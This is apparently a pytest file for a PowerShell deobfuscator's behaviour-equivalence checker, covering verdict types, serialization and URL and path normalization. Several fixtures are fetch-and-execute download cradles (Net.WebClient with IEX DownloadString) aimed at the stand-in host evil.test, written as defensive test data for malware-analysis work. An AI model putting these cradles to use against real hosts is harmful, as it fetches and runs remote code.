"""The differential comparator: all three verdicts plus normalization."""

from repro import Deobfuscator
from repro.verify import (
    VerifyVerdict,
    normalized_signature,
    verify_equivalence,
    verify_result,
)
from repro.verify.normalize import canonical_path, canonical_url

DOWNLOADER = (
    "$c = New-Object Net.WebClient\n"
    "IEX ($c.DownloadString('http://evil.test/payload'))\n"
    "Write-Host ('do'+'ne')\n"
)


class TestEquivalentVerdict:
    def test_identical_scripts_are_equivalent(self):
        verdict = verify_equivalence(DOWNLOADER, DOWNLOADER)
        assert verdict.verdict == "equivalent"
        assert verdict.equivalent
        assert verdict.diff == ()

    def test_deobfuscation_computation_is_ignored(self):
        # The candidate drops the string concatenation and the mixed
        # casing — internal computation — but keeps the behaviour.
        candidate = (
            "$c = New-Object Net.WebClient\n"
            "IEX ($c.DownloadString('HTTP://EVIL.TEST/payload'))\n"
            "Write-Host done\n"
        )
        verdict = verify_equivalence(DOWNLOADER, candidate)
        assert verdict.verdict == "equivalent", verdict.to_dict()

    def test_retry_loops_collapse(self):
        retry = (
            "$c = New-Object Net.WebClient\n"
            "foreach ($i in 1..3) { "
            "$c.DownloadString('http://evil.test/payload') }\n"
        )
        single = (
            "$c = New-Object Net.WebClient\n"
            "$c.DownloadString('http://evil.test/payload')\n"
        )
        verdict = verify_equivalence(retry, single)
        assert verdict.verdict == "equivalent", verdict.to_dict()

    def test_real_pipeline_preserves_semantics(self):
        obfuscated = "I`E`X ('wri'+'te-host hi')"
        result = Deobfuscator().deobfuscate(obfuscated)
        verdict = verify_result(result)
        assert verdict.verdict == "equivalent", verdict.to_dict()

    def test_ec_alias_runs_the_encoded_payload(self):
        # powershell.exe binds -ec as -EncodedCommand; the sandbox must
        # too, or the unwrapped layer reads as gained behaviour.
        import base64

        payload = base64.b64encode("write-host hi".encode("utf-16-le"))
        result = Deobfuscator().deobfuscate(
            f"powershell -EC {payload.decode()}"
        )
        assert result.script == "Write-Host hi"
        verdict = verify_result(result)
        assert verdict.verdict == "equivalent", verdict.to_dict()


class TestDivergentVerdict:
    def test_lost_behavior_is_divergent_with_diff(self):
        # Deterministic divergence fixture: the "deobfuscation"
        # dropped the download and changed the output.
        broken = "Write-Host nothing\n"
        verdict = verify_equivalence(DOWNLOADER, broken)
        assert verdict.verdict == "divergent"
        assert verdict.reason
        assert any(line.startswith("- effect:net.download_string")
                   for line in verdict.diff)
        assert any(line.startswith("+ output:") for line in verdict.diff)

    def test_unparseable_candidate_is_divergent(self):
        verdict = verify_equivalence("Write-Host hi", "Write-Host hi {{{")
        assert verdict.verdict == "divergent"
        assert "does not parse" in verdict.reason

    def test_diff_is_bounded(self):
        original = "\n".join(
            f"Write-Host line{i}" for i in range(40)
        )
        verdict = verify_equivalence(original, "Write-Host other")
        assert verdict.verdict == "divergent"
        assert len(verdict.diff) <= 9  # max_diff entries + ellipsis line


class TestInconclusiveVerdict:
    def test_step_limit_is_inconclusive(self):
        loop = "while ($true) { $x = 1 }"
        verdict = verify_equivalence(loop, loop, step_limit=200)
        assert verdict.verdict == "inconclusive"
        assert "step limit" in verdict.reason

    def test_invalid_original_is_inconclusive(self):
        verdict = verify_equivalence("Write-Host hi {{{", "Write-Host hi")
        assert verdict.verdict == "inconclusive"
        assert "original" in verdict.reason

    def test_invalid_input_result_is_inconclusive(self):
        result = Deobfuscator().deobfuscate("Write-Host hi {{{")
        assert not result.valid_input
        verdict = verify_result(result)
        assert verdict.verdict == "inconclusive"


class TestVerifyResultFastPath:
    def test_unchanged_script_short_circuits(self):
        from repro.core.pipeline import DeobfuscationResult

        result = DeobfuscationResult(
            original="Write-Host hi", script="Write-Host hi"
        )
        verdict = verify_result(result)
        assert verdict.verdict == "equivalent"
        assert "unchanged" in verdict.reason


class TestVerdictSerialization:
    def test_round_trip(self):
        verdict = verify_equivalence(DOWNLOADER, "Write-Host x")
        rebuilt = VerifyVerdict.from_dict(verdict.to_dict())
        assert rebuilt.verdict == verdict.verdict
        assert rebuilt.diff == verdict.diff
        assert rebuilt.reason == verdict.reason

    def test_to_dict_drops_empty_fields(self):
        data = VerifyVerdict(verdict="equivalent").to_dict()
        assert "diff" not in data
        assert "reason" not in data
        assert data["verdict"] == "equivalent"


class TestNormalization:
    def test_url_canonicalization(self):
        assert canonical_url("HTTP://EVIL.Test:80/Payload/") == (
            "http://evil.test/Payload"
        )
        assert canonical_url("https://a.test:443/x") == "https://a.test/x"

    def test_path_canonicalization(self):
        assert canonical_path('  "C:\\\\Temp\\\\x.PS1" ') == "c:\\temp\\x.ps1"
        assert canonical_path("C:/Temp/x.ps1") == "c:\\temp\\x.ps1"

    def test_signature_keeps_only_observable_kinds(self):
        from repro.runtime.host import BehaviorEvent

        events = [
            BehaviorEvent(kind="command", name="iex"),
            BehaviorEvent(kind="member", name="x.decode"),
            BehaviorEvent(kind="effect", name="net.tcp_connect",
                          arguments=("evil.test:443",)),
            BehaviorEvent(kind="output", name="console",
                          arguments=("hi  ",)),
        ]
        signature = normalized_signature(events)
        assert [entry[0] for entry in signature] == ["effect", "output"]
        # trailing whitespace stripped from output text
        assert signature[1][2] == ("hi",)
